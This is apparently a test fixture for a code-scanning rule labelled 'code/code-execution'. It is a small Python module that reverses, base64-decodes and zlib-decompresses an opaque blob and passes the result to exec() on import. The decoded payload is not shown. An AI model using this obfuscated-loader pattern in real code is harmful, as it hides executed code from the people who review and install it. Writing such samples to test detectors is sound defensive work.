import base64
import zlib

from .fmt import red  # noqa: F401

_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))


def _k(s):
    return _(s)


# ruleid: code/code-execution
exec(_k(b'=gUEh+CACQ+1Q5MKRhqVvc9MWTDNzA9MWDjM3ct0wmSKogsVtAdUK3iLPBV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))
